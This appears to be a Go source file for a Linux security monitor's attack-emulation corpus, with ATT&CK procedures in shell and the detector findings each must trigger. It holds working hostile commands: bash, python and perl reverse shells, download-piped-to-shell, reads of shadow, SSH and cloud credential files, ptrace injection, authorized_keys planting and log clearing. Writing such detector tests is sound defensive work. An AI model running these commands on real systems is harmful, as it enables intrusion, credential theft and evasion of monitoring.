// Package attack is a corpus of MITRE ATT&CK for Linux procedures: each one
// performs one technique for real, in a few lines of shell (like an Atomic
// Red Team test), and states the findings bulkhead's shipped detectors
// must report for it. test/attack_test.go runs the corpus under the monitor
// on both backends and prints the coverage table.
//
// The procedures are safe to run as root on a development or CI host:
// network procedures run in a network namespace of their own (an address
// on its loopback device stands for a remote host), files are written
// below per-procedure scratch directories and a fake home under /home, and
// a system file is either created under a bulkhead-corpus-* name and removed
// again, or opened for appending without writing a byte (what the monitor
// sees is the open with write flags; the file does not change). Every loop
// is bounded.
package attack

import "os"

// Procedure is one technique performed for real.
type Procedure struct {
	// ID is the ATT&CK technique (T1059.004 …); Name says what it does.
	ID, Name string
	// Expect are the findings the procedure must cause, as
	// "detector/rule", each on both backends. Empty when Needs is set.
	Expect []string
	// Needs is the capture the procedure waits for ("unlink"): no event
	// kind of today shows it. It runs anyway and shows what is reported.
	Needs string
	// NetNS runs the script in a new network namespace whose loopback
	// device also holds $REMOTE (10.213.0.1), an address off 127/8.
	NetNS bool
	// Container runs the script in a cgroup named as Docker names a
	// container's (docker-<64 hex>.scope, made for the run and removed
	// after it), so the monitor takes it for a process in a container. It
	// is still the host's namespaces: what it does to them it does to the
	// host, so a container procedure only makes private mount namespaces
	// or enters namespaces it is already in.
	Container bool
	// Creates are system paths the script may create when they are absent
	// (an empty /etc/ld.so.preload, say); the runner removes those it finds
	// created and still empty. Globs are removed whatever their content:
	// they name only bulkhead-corpus-* files.
	Creates, Globs []string
	// Skip, when it returns a reason, leaves the procedure out on this host.
	Skip func() string
	// Script is run by /bin/sh after Prelude, as root, from a file outside
	// world-writable directories, with: $D, $V and $S fresh directories in
	// /tmp, /var/tmp and /dev/shm; $W one outside them; $H a fake home
	// (/home/bulkhead-test-*) with .ssh, .config, .aws and .kube; $N a name
	// unique to the run; $A this directory; $PY /usr/bin/python3; $REMOTE.
	Script string
}

// Prelude defines the helpers every script can use.
const Prelude = `
PY=/usr/bin/python3
REMOTE=10.213.0.1
# listen PORT MODE TEXT: a one-connection listener on every address,
# ready when this returns (5 s at most).
listen() {
	$PY "$A/listen.py" "$1" "$2" "$3" "$D/ready.$1" &
	i=0; while [ ! -e "$D/ready.$1" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
}
`

// NetNSPrelude brings up the namespace's loopback device with $REMOTE.
const NetNSPrelude = `ip link set lo up && ip addr add 10.213.0.1/32 dev lo || exit 1
`

// ContainerPrelude moves the script into its container-like cgroup $CG
// (the cgroup2 directory the runner made).
const ContainerPrelude = `echo $$ > "$CG/cgroup.procs" || exit 1
`

// Corpus is every procedure.
var Corpus = []Procedure{
	// ---- Execution from writable and hidden places (T1059, T1564.001)
	{ID: "T1059", Name: "binary dropped in /tmp and run",
		Expect: []string{"tmpexec/exec-from-writable-dir", "rules/exec_from_writable_dir"},
		Script: `cp /bin/true $D/payload && $D/payload`},
	{ID: "T1059", Name: "binary dropped in /var/tmp and run",
		Expect: []string{"tmpexec/exec-from-writable-dir", "rules/exec_from_writable_dir"},
		Script: `cp /bin/true $V/payload && $V/payload`},
	{ID: "T1059", Name: "binary dropped in /dev/shm and run",
		Expect: []string{"tmpexec/exec-from-writable-dir", "rules/exec_from_writable_dir"},
		Script: `cp /bin/true $S/payload && $S/payload`},
	{ID: "T1059.004", Name: "sh /tmp/x.sh",
		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
		Script: `printf '#!/bin/sh\ntrue\n' > $D/x.sh && sh $D/x.sh`},
	{ID: "T1059.004", Name: "./x.sh in /dev/shm",
		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
		Script: `printf '#!/bin/sh\ntrue\n' > $S/x.sh && chmod +x $S/x.sh && cd $S && ./x.sh`},
	{ID: "T1059.004", Name: "bash -x /var/tmp/x.sh",
		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
		Script: `printf 'true\n' > $V/x.sh && bash -x $V/x.sh 2>/dev/null`},
	{ID: "T1059.006", Name: "python3 /tmp/x.py",
		Expect: []string{"rules/script_from_writable_dir", "tmpexec/script-from-writable-dir"},
		Script: `printf 'print(1)\n' > $D/x.py && $PY $D/x.py >/dev/null`},
	{ID: "T1059", Name: "perl /dev/shm/x.pl",
		Expect: []string{"rules/script_from_writable_dir"},
		Script: `printf '1;\n' > $S/x.pl && perl $S/x.pl`},
	{ID: "T1059", Name: "dynamic loader runs a /tmp binary (ld.so /tmp/x)",
		Expect: []string{"rules/script_from_writable_dir"},
		Script: `cp /bin/true $D/payload && /lib64/ld-linux-x86-64.so.2 $D/payload`},
	{ID: "T1564.001", Name: "binary run from a hidden directory in a home",
		Expect: []string{"rules/exec_from_hidden_dir"},
		Script: `mkdir $H/.x && cp /bin/true $H/.x/update && $H/.x/update`},
	{ID: "T1564.001", Name: "binary run from a hidden directory in /var/lib",
		Expect: []string{"rules/exec_from_hidden_dir"}, Globs: []string{"/var/lib/.bulkhead-corpus-*"},
		Script: `h=/var/lib/.bulkhead-corpus-$N && mkdir $h && cp /bin/true $h/agent && $h/agent; r=$?; rm -rf $h; exit $r`},
	{ID: "T1620", Name: "program run from a memfd",
		Expect: []string{"tmpexec/fileless-exec", "rules/fileless_exec"},
		Script: `$PY -c '
import os
fd = os.memfd_create("corpus", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["corpus-fileless"], {})'`},
	{ID: "T1070.004", Name: "binary deleted before it runs (fexecve of an unlinked file)",
		Expect: []string{"tmpexec/deleted-binary-exec"},
		Script: `cp /bin/true $W/gone && $PY -c '
import os, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
os.unlink(sys.argv[1])
os.execve(fd, ["gone"], {})' $W/gone`},
	{ID: "T1574.006", Name: "LD_PRELOAD of a library in /tmp",
		Expect: []string{"rules/library_from_writable_dir", "rules/loader_env_hijack"},
		Script: `cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $D/libhook.so && LD_PRELOAD=$D/libhook.so /bin/true`},
	{ID: "T1574.006", Name: "LD_AUDIT of a library in /dev/shm",
		Expect: []string{"rules/loader_env_hijack"},
		Script: `cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $S/libaudit.so && LD_AUDIT=$S/libaudit.so /bin/true 2>/dev/null`},
	{ID: "T1574.006", Name: "LD_LIBRARY_PATH pointing at /var/tmp",
		Expect: []string{"rules/loader_env_hijack"},
		Script: `LD_LIBRARY_PATH=$V /bin/true`},
	{ID: "T1564.001", Name: "#! script run from a hidden directory in a home",
		Expect: []string{"tmpexec/script-from-hidden-dir"},
		Script: `mkdir $H/.x && printf '#!/bin/sh
true
' > $H/.x/run && chmod +x $H/.x/run && $H/.x/run`},

	// ---- Masquerading and obfuscation (T1036, T1027, T1140)
	{ID: "T1036.004", Name: "binary named kworker",
		Expect: []string{"rules/masquerading_process"},
		Script: `cp /bin/true $W/kworker && $W/kworker`},
	{ID: "T1036.004", Name: "argv[0] of a kernel thread (exec -a '[kworker/0:1]')",
		Expect: []string{"rules/masquerading_process"},
		Script: `bash -c 'exec -a "[kworker/0:1]" /bin/true'`},
	{ID: "T1036.005", Name: "sshd run from a home directory",
		Expect: []string{"rules/masquerading_process"},
		Script: `cp /bin/true $H/sshd && $H/sshd`},
	{ID: "T1140", Name: "base64-decoded command piped to sh",
		Expect: []string{"rules/decoded_payload_to_shell"},
		Script: `sh -c 'echo dHJ1ZQo= | base64 -d | sh'`},
	{ID: "T1105", Name: "curl | sh",
		Expect: []string{"rules/download_piped_to_shell"},
		Script: `printf 'true\n' > $D/p.sh && sh -c "curl -s file://$D/p.sh | sh"`},
	{ID: "T1105", Name: "wget -O- | bash from a remote web server", NetNS: true,
		Expect: []string{"rules/download_piped_to_shell"},
		Script: `listen 8000 close 'HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\ntrue\n'
sh -c "wget -q -T 5 -O- http://$REMOTE:8000/p.sh | bash"`},

	// ---- Network: reverse shells, interpreters, daemons, SSH, mining (T1059, T1071, T1021.004, T1496)
	{ID: "T1059.004", Name: "bash reverse shell (/dev/tcp)", NetNS: true,
		Expect: []string{"outbound/reverse-shell"},
		Script: `listen 4242 drain 'echo owned; exit\n'
bash -c "bash -i >& /dev/tcp/$REMOTE/4242 0>&1" 2>/dev/null`},
	{ID: "T1059.006", Name: "python reverse shell", NetNS: true,
		Expect: []string{"outbound/reverse-shell", "rules/interpreter_outbound_connect"},
		Script: `listen 4243 drain 'exit\n'
$PY -c '
import os, socket, subprocess, sys
s = socket.create_connection((sys.argv[1], 4243))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])' $REMOTE`},
	{ID: "T1059", Name: "perl reverse shell", NetNS: true,
		Expect: []string{"outbound/reverse-shell", "rules/interpreter_outbound_connect"},
		Script: `listen 4244 drain 'exit\n'
perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); connect(S, sockaddr_in(4244, inet_aton($ARGV[0]))) or die; open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");' $REMOTE`},
	{ID: "T1071", Name: "python connects to a remote host", NetNS: true,
		Expect: []string{"rules/interpreter_outbound_connect"},
		Script: `listen 8443 close ''
$PY -c 'import socket, sys; socket.create_connection((sys.argv[1], 8443)).close()' $REMOTE`},
	{ID: "T1071", Name: "a system daemon (cron) connects to a remote host", NetNS: true,
		Expect: []string{"rules/daemon_outbound_connect"},
		Script: `listen 8444 close ''
cp /usr/bin/python3 $W/cron && $W/cron -c 'import socket, sys; socket.create_connection((sys.argv[1], 8444)).close()' $REMOTE`},
	{ID: "T1021.004", Name: "ssh to a non-standard port", NetNS: true,
		Expect: []string{"rules/ssh_nonstandard_port"},
		Script: `listen 2222 close 'SSH-2.0-corpus\r\n'
HOME=$H ssh -p 2222 -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null $REMOTE true 2>/dev/null
true`},
	{ID: "T1496", Name: "connection to a mining-pool port", NetNS: true,
		Expect: []string{"outbound/mining-pool-port"},
		Script: `listen 3333 close ''
$PY -c 'import socket, sys; socket.create_connection((sys.argv[1], 3333)).close()' $REMOTE`},
	{ID: "T1496", Name: "miner started with a stratum URL",
		Expect: []string{"outbound/miner-argv", "rules/crypto_miner_args"},
		Script: `sh -c true xmrig -o stratum+tcp://pool.invalid:3333`},

	// ---- Services that run what they should not (T1505.003, T1072)
	{ID: "T1505.003", Name: "web server runs a shell",
		Expect: []string{"webshell/shell-from-service", "rules/shell_under_network_service"},
		Script: `cp /usr/bin/python3 $W/httpd && $W/httpd -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "id"], stdout=subprocess.DEVNULL)'`},
	{ID: "T1505.003", Name: "web server runs id directly (no shell)",
		Expect: []string{"rules/service_spawns_tool"},
		Script: `cp /usr/bin/python3 $W/httpd && $W/httpd -c 'import subprocess; subprocess.run(["/usr/bin/id"], stdout=subprocess.DEVNULL)'`},
	{ID: "T1505.001", Name: "database runs whoami",
		Expect: []string{"rules/service_spawns_tool"},
		Script: `cp /usr/bin/python3 $W/mysqld && $W/mysqld -c 'import subprocess; subprocess.run(["/usr/bin/whoami"], stdout=subprocess.DEVNULL)'`},
	{ID: "T1059.004", Name: "database runs a shell",
		Expect: []string{"webshell/shell-from-service", "rules/shell_under_network_service"},
		Script: `cp /usr/bin/python3 $W/postgres && $W/postgres -c 'import subprocess; subprocess.run(["/bin/sh", "-c", "true"])'`},
	{ID: "T1072", Name: "web server runs the package manager",
		Expect: []string{"rules/package_manager_unexpected_parent"},
		Script: `cp /usr/bin/python3 $W/httpd && $W/httpd -c 'import subprocess; subprocess.run(["/usr/bin/apt-get", "--version"], stdout=subprocess.DEVNULL)'`},

	// ---- Persistence (T1053, T1543, T1546, T1547, T1574, T1098, T1556, T1037)
	{ID: "T1053.003", Name: "cron file written", Globs: []string{"/etc/cron.d/bulkhead-corpus-*"},
		Expect: []string{"persistence/cron-write", "rules/persistence_file_write"},
		Script: `f=/etc/cron.d/bulkhead-corpus-$N; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1543.002", Name: "systemd unit written", Globs: []string{"/etc/systemd/system/bulkhead-corpus-*"},
		Expect: []string{"persistence/systemd-unit-write", "rules/persistence_file_write"},
		Script: `f=/etc/systemd/system/bulkhead-corpus-$N.service; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1546.004", Name: "a user's ~/.bashrc appended to",
		Expect: []string{"persistence/shell-rc-write", "rules/persistence_file_write"},
		Script: `echo '# bulkhead corpus' >> $H/.bashrc`},
	{ID: "T1546.004", Name: "/etc/profile.d script written", Globs: []string{"/etc/profile.d/bulkhead-corpus-*"},
		Expect: []string{"persistence/shell-rc-write", "rules/shell_config_write"},
		Script: `f=/etc/profile.d/bulkhead-corpus-$N.sh; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1546.004", Name: "/etc/bash.bashrc opened for appending",
		Expect: []string{"persistence/shell-rc-write", "rules/shell_config_write"},
		Script: `: >> /etc/bash.bashrc`},
	{ID: "T1574.006", Name: "/etc/ld.so.preload opened for appending", Creates: []string{"/etc/ld.so.preload"},
		Expect: []string{"persistence/ld-preload-write", "rules/persistence_file_write"},
		Script: `: >> /etc/ld.so.preload`},
	{ID: "T1574.006", Name: "loader search path drop-in written", Globs: []string{"/etc/ld.so.conf.d/bulkhead-corpus-*"},
		Expect: []string{"rules/library_path_config_write"},
		Script: `f=/etc/ld.so.conf.d/bulkhead-corpus-$N.conf; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1098.004", Name: "SSH key added to authorized_keys",
		Expect: []string{"rules/ssh_authorized_keys_write"},
		Script: `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBulkheadCorpusBulkheadCorpusBulkheadCorpus corpus' >> $H/.ssh/authorized_keys`},
	{ID: "T1098.004", Name: "authorized_keys replaced by a rename from a program",
		Expect: []string{"persistence/authorized-keys-write"},
		Script: `printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBulkheadCorpusBulkheadCorpusBulkheadCorpus corpus\n' > $H/.ssh/k &&
$PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $H/.ssh/k $H/.ssh/authorized_keys`},
	{ID: "T1098.004", Name: "sshd drop-in written", Creates: []string{"/etc/ssh/sshd_config.d"},
		Globs:  []string{"/etc/ssh/sshd_config.d/bulkhead-corpus-*"},
		Expect: []string{"rules/ssh_daemon_config_write"},
		Script: `mkdir -p /etc/ssh/sshd_config.d && f=/etc/ssh/sshd_config.d/bulkhead-corpus-$N.conf; printf '# PermitRootLogin yes\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1556.003", Name: "PAM service file written", Globs: []string{"/etc/pam.d/bulkhead-corpus-*"},
		Expect: []string{"rules/pam_config_write"},
		Script: `f=/etc/pam.d/bulkhead-corpus-$N; printf '# auth sufficient pam_permit.so\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1037.004", Name: "/etc/rc.local opened for appending", Creates: []string{"/etc/rc.local"},
		Expect: []string{"rules/startup_script_write"},
		Script: `: >> /etc/rc.local`},
	{ID: "T1037.004", Name: "SysV init script written", Globs: []string{"/etc/init.d/bulkhead-corpus-*"},
		Expect: []string{"rules/startup_script_write"},
		Script: `f=/etc/init.d/bulkhead-corpus-$N; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1547.013", Name: "XDG autostart entry written",
		Expect: []string{"rules/autostart_entry_write"},
		Script: `mkdir -p $H/.config/autostart && printf '[Desktop Entry]\n' > $H/.config/autostart/update.desktop`},
	{ID: "T1547.006", Name: "module added to modules-load.d", Globs: []string{"/etc/modules-load.d/bulkhead-corpus-*"},
		Expect: []string{"rules/module_config_write"},
		Script: `f=/etc/modules-load.d/bulkhead-corpus-$N.conf; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1546.016", Name: "APT hook written", Globs: []string{"/etc/apt/apt.conf.d/99bulkhead-corpus-*"},
		Expect: []string{"rules/package_manager_hook_write"},
		Script: `f=/etc/apt/apt.conf.d/99bulkhead-corpus-$N; printf '// bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1546.016", Name: "dpkg maintainer script planted", Globs: []string{"/var/lib/dpkg/info/bulkhead-corpus-*"},
		Expect: []string{"rules/package_manager_hook_write"},
		Script: `f=/var/lib/dpkg/info/bulkhead-corpus-$N.postinst; printf '#!/bin/sh\n' > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1554", Name: "binary written to /usr/bin", Globs: []string{"/usr/bin/bulkhead-corpus-*"},
		Expect: []string{"rules/system_binary_write"},
		Script: `f=/usr/bin/bulkhead-corpus-$N; cp /bin/true $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1554", Name: "binary renamed into /usr/bin by a program", Globs: []string{"/usr/bin/bulkhead-corpus-*", "/usr/bin/.bulkhead-corpus-*"},
		Expect: []string{"persistence/system-binary-write"},
		Script: `t=/usr/bin/.bulkhead-corpus-$N.new; f=/usr/bin/bulkhead-corpus-$N; cp /bin/true $t &&
$PY -c 'import os, sys; os.rename(sys.argv[1], sys.argv[2])' $t $f; r=$?; rm -f $f $t; exit $r`},
	{ID: "T1574", Name: "library written to /usr/lib", Globs: []string{"/usr/lib/bulkhead-corpus-*"},
		Expect: []string{"rules/system_library_write"},
		Script: `f=/usr/lib/bulkhead-corpus-$N.so; cp /usr/lib/x86_64-linux-gnu/libdl.so.2 $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1542", Name: "file written to /boot", Globs: []string{"/boot/bulkhead-corpus-*"},
		Expect: []string{"rules/boot_file_write"},
		Script: `f=/boot/bulkhead-corpus-$N; printf 'corpus\n' > $f; r=$?; rm -f $f; exit $r`},

	// ---- Accounts (T1136, T1098, T1548.003)
	{ID: "T1136.001", Name: "useradd (in a copy of /etc, useradd -R)",
		Expect: []string{"rules/user_account_tool"},
		Script: `mkdir -p $D/root/etc && cp -p /etc/passwd /etc/group /etc/shadow /etc/gshadow $D/root/etc/ &&
useradd -R $D/root -M -s /usr/sbin/nologin bh-corpus && grep -q '^bh-corpus:' $D/root/etc/passwd`},
	{ID: "T1098", Name: "usermod adds a user to a group (in a copy of /etc)",
		Expect: []string{"rules/user_account_tool"},
		Script: `mkdir -p $D/root/etc && cp -p /etc/passwd /etc/group /etc/shadow /etc/gshadow $D/root/etc/ &&
usermod -R $D/root -aG adm nobody`},
	{ID: "T1136.001", Name: "/etc/passwd opened for writing by a shell",
		Expect: []string{"rules/account_file_write"},
		Script: `: >> /etc/passwd`},
	{ID: "T1548.003", Name: "sudoers drop-in written", Globs: []string{"/etc/sudoers.d/bulkhead-corpus-*"},
		Creates: []string{"/etc/sudoers.d"},
		Expect:  []string{"credaccess/sudoers-access", "rules/sudoers_dropin_write"},
		Script:  `mkdir -p -m 755 /etc/sudoers.d && f=/etc/sudoers.d/bulkhead-corpus-$N; printf '# bulkhead corpus\n' > $f; r=$?; rm -f $f; exit $r`},

	// ---- Credential access (T1003, T1552)
	{ID: "T1003.008", Name: "cat /etc/shadow",
		Expect: []string{"credaccess/password-hash-access", "rules/credential_file_read"},
		Script: `cat /etc/shadow >/dev/null`},
	{ID: "T1003.008", Name: "symbolic link made to /etc/shadow",
		Expect: []string{"credaccess/credential-file-link"},
		Script: `ln -s /etc/shadow $W/s`},
	{ID: "T1003.008", Name: "python reads /etc/gshadow",
		Expect: []string{"credaccess/password-hash-access", "rules/credential_file_read"},
		Script: `$PY -c 'open("/etc/gshadow").read()'`},
	{ID: "T1552.004", Name: "a user's SSH private key read",
		Expect: []string{"credaccess/ssh-private-key-access", "rules/ssh_private_key_read"},
		Script: `cat $H/.ssh/id_rsa >/dev/null`},
	{ID: "T1552.001", Name: "AWS credentials read",
		Expect: []string{"rules/cloud_credentials_read"},
		Script: `cat $H/.aws/credentials >/dev/null`},
	{ID: "T1552.001", Name: "gcloud credentials read",
		Expect: []string{"rules/cloud_credentials_read"},
		Script: `cat $H/.config/gcloud/application_default_credentials.json >/dev/null`},
	{ID: "T1552.001", Name: "kubeconfig read",
		Expect: []string{"rules/cloud_credentials_read"},
		Script: `$PY -c 'import sys; open(sys.argv[1]).read()' $H/.kube/config`},
	{ID: "T1552.001", Name: "git credentials read",
		Expect: []string{"rules/cloud_credentials_read"},
		Script: `cat $H/.git-credentials >/dev/null`},
	{ID: "T1552.004", Name: "find private keys by name",
		Expect: []string{"rules/private_key_search"},
		Script: `find $H -name 'id_rsa*' >/dev/null`},
	{ID: "T1552.004", Name: "grep for PRIVATE KEY",
		Expect: []string{"rules/private_key_search"},
		Script: `grep -rl 'PRIVATE KEY' $H >/dev/null`},
	{ID: "T1552.001", Name: "recursive grep for passwords in home directories",
		Expect: []string{"rules/credential_search"},
		Script: `grep -rIil password $H >/dev/null; true`},
	{ID: "T1552.003", Name: "another user's shell history read",
		Expect: []string{"rules/shell_history_read"},
		Script: `cat $H/.bash_history >/dev/null`},
	{ID: "T1003.007", Name: "another process's memory opened (/proc/PID/mem)",
		Expect: []string{"rules/process_memory_read"},
		Script: `sleep 5 & p=$!
$PY -c 'import sys; open("/proc/%s/mem" % sys.argv[1], "rb").close()' $p; r=$?; kill $p; exit $r`},

	// ---- Defense evasion (T1070, T1562)
	{ID: "T1070.003", Name: "shell history truncated",
		Expect: []string{"rules/shell_history_cleared"},
		Script: `: > $H/.bash_history`},
	{ID: "T1070.002", Name: "log file truncated", Globs: []string{"/var/log/bulkhead-corpus-*"},
		Expect: []string{"rules/log_file_cleared"},
		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && : > $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1562.001", Name: "systemctl stop auditd",
		Expect: []string{"rules/security_tool_disabled"},
		Script: `systemctl stop auditd >/dev/null 2>&1; true`},
	{ID: "T1562.001", Name: "pkill a monitoring agent",
		Expect: []string{"rules/security_tool_disabled"},
		Script: `pkill -x falco-bulkhead-corpus; true`},

	// ---- Privilege escalation, injection, kernel (T1548, T1055, T1014, T1611)
	{ID: "T1548.001", Name: "a user runs a setuid-root copy of python",
		Expect: []string{"privesc/setuid-root-exec", "privesc/setuid-bit-set"},
		Script: `cp /usr/bin/python3 $V/python3 && chmod 4755 $V/python3 &&
setpriv --reuid=65534 --regid=65534 --clear-groups $V/python3 -c pass`},
	{ID: "T1548", Name: "a user's process switches to uid 0 (setuid(0))",
		Expect: []string{"privesc/setid-to-root", "rules/setid_to_root"},
		Script: `cp /usr/bin/python3 $V/python3 && chmod 4755 $V/python3 &&
setpriv --reuid=65534 --regid=65534 --clear-groups $V/python3 -c 'import os; os.setuid(0)'`},
	{ID: "T1055.008", Name: "PTRACE_ATTACH to another process",
		Expect: []string{"ptrace/ptrace-attach", "rules/ptrace_attach"},
		Script: `sleep 5 & p=$!
$PY -c '
import ctypes, os, sys
p = int(sys.argv[1]); libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, p, 0, 0) == 0, ctypes.get_errno()
os.waitpid(p, 0x40000000); libc.ptrace(17, p, 0, 0)' $p; r=$?; kill $p; exit $r`},
	{ID: "T1055.008", Name: "PTRACE_SEIZE of another process",
		Expect: []string{"ptrace/ptrace-attach", "rules/ptrace_attach"},
		Script: `sleep 5 & p=$!
$PY -c '
import ctypes, sys
p = int(sys.argv[1]); libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(0x4206, p, 0, 0) == 0, ctypes.get_errno()
libc.ptrace(17, p, 0, 0)' $p; r=$?; kill $p; exit $r`},
	{ID: "T1055.008", Name: "PTRACE_POKEDATA into another process",
		Expect: []string{"ptrace/ptrace-write"},
		Script: `sleep 5 & p=$!
$PY -c '
import ctypes, os, sys
p = int(sys.argv[1]); libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
assert libc.ptrace(16, p, None, None) == 0, ctypes.get_errno()
os.waitpid(p, 0x40000000)
stack = [l for l in open("/proc/%d/maps" % p) if l.rstrip().endswith("[stack]")][0]
addr = int(stack.split("-")[1].split()[0], 16) - 8
word = libc.ptrace(2, p, addr, None)
assert libc.ptrace(5, p, addr, word) == 0, ctypes.get_errno()
libc.ptrace(17, p, None, None)' $p; r=$?; kill $p; exit $r`},
	{ID: "T1014", Name: "eBPF program loaded by an unknown process",
		Expect: []string{"kernelload/bpf-load", "rules/unexpected_bpf_load"},
		Script: `$PY -c '
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
insns = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
lic = ctypes.create_string_buffer(b"GPL")
attr = struct.pack("IIQQIIQII16s", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, b"corpus_load")
buf = ctypes.create_string_buffer(attr, 128)
fd = libc.syscall(321, 5, buf, 128)
assert fd >= 0, ctypes.get_errno()'`},
	{ID: "T1547.006", Name: "kernel module loaded (modprobe dummy)",
		Expect: []string{"kernelload/module-load", "rules/kernel_module_load"},
		Skip:   noModuleTracepoints,
		Script: `modprobe dummy`},
	{ID: "T1611", Name: "nsenter into pid 1's namespaces (pid 1 of a new pid namespace: itself)",
		Expect: []string{"rules/namespace_enter_host"},
		Script: `unshare -pf --mount-proc nsenter -t 1 -m -u -- true`},
	{ID: "T1611", Name: "nsenter from a container into pid 1's namespaces (setns; pid 1 of a new pid namespace: itself)", Container: true,
		Expect: []string{"privesc/container-escape", "rules/namespace_enter_host"},
		Script: `unshare -pf --mount-proc nsenter -t 1 -m -u -- true`},
	{ID: "T1611", Name: "cgroup filesystem mounted from a container (a release_agent escape's first step)", Container: true,
		Expect: []string{"privesc/container-escape"},
		Script: `mkdir $D/cg && unshare -m sh -c "mount -t cgroup2 none $D/cg && umount $D/cg"`},
	{ID: "T1014", Name: "BPF program attached to a cgroup by an unknown process",
		Expect: []string{"kernelload/bpf-attach"},
		Script: `mkdir "$CG2/bulkhead-corpus-$N" && $PY -c '
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
insns = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 1, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
lic = ctypes.create_string_buffer(b"GPL")
attr = ctypes.create_string_buffer(struct.pack("IIQQIIQII16s", 8, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, b"corpus_skb"), 128)
prog = libc.syscall(321, 5, attr, 128)
assert prog >= 0, ctypes.get_errno()
cg = os.open(sys.argv[1], os.O_RDONLY | os.O_DIRECTORY)
attach = ctypes.create_string_buffer(struct.pack("IIII", cg, prog, 0, 0), 128)
assert libc.syscall(321, 8, attach, 128) == 0, ctypes.get_errno()
detach = ctypes.create_string_buffer(struct.pack("IIII", cg, prog, 0, 0), 128)
libc.syscall(321, 9, detach, 128)' "$CG2/bulkhead-corpus-$N"; r=$?; rmdir "$CG2/bulkhead-corpus-$N"; exit $r`},
	{ID: "T1562.001", Name: "another program's BPF program opened by id",
		Expect: []string{"kernelload/bpf-object-access"},
		Script: `$PY -c '
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("II", 0, 0), 128)
assert libc.syscall(321, 11, attr, 128) == 0, ctypes.get_errno()
pid = struct.unpack_from("I", attr.raw, 4)[0]
get = ctypes.create_string_buffer(struct.pack("I", pid), 128)
fd = libc.syscall(321, 13, get, 128)
assert fd >= 0, ctypes.get_errno()
'`},
	{ID: "T1014", Name: "kexec_file_load called (with no kernel: refused, nothing staged)",
		Expect: []string{"kernelload/kexec-load"},
		Skip:   noKexecTracepoints,
		Script: `$PY -c 'import ctypes; ctypes.CDLL(None).syscall(320, -1, -1, 0, None, 4)'`},

	// ---- Commands: seen by their argv at exec, and by their effect.
	{ID: "T1070.002", Name: "log file deleted (rm)", Globs: []string{"/var/log/bulkhead-corpus-*"},
		Expect: []string{"rules/log_clearing_command", "rules/log_file_removed"},
		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && rm $f`},
	{ID: "T1070.002", Name: "log file emptied with truncate -s 0", Globs: []string{"/var/log/bulkhead-corpus-*"},
		Expect: []string{"rules/log_clearing_command", "rules/log_file_cleared"},
		Script: `f=/var/log/bulkhead-corpus-$N.log; echo entry >> $f && truncate -s 0 $f; r=$?; rm -f $f; exit $r`},
	{ID: "T1548.001", Name: "setuid bit set on a copy of a shell (chmod u+s)",
		Expect: []string{"rules/setuid_bit_command", "privesc/setuid-bit-set"},
		Script: `cp /bin/dash $W/rootsh && chmod u+s $W/rootsh`},
	{ID: "T1222.002", Name: "payload in /tmp made executable (chmod +x)",
		Expect: []string{"rules/executable_dropped_in_writable_dir"},
		Script: `printf 'true\n' > $D/p && chmod +x $D/p`},
	{ID: "T1070.006", Name: "file times set to a past date (touch -d)",
		Expect: []string{"rules/timestomp_command"},
		Script: `printf x > $W/f && touch -d '2001-01-01' $W/f`},
	{ID: "T1543.002", Name: "systemd unit moved into place (mv)", Globs: []string{"/etc/systemd/system/bulkhead-corpus-*"},
		Expect: []string{"rules/persistence_file_moved", "persistence/systemd-unit-write"},
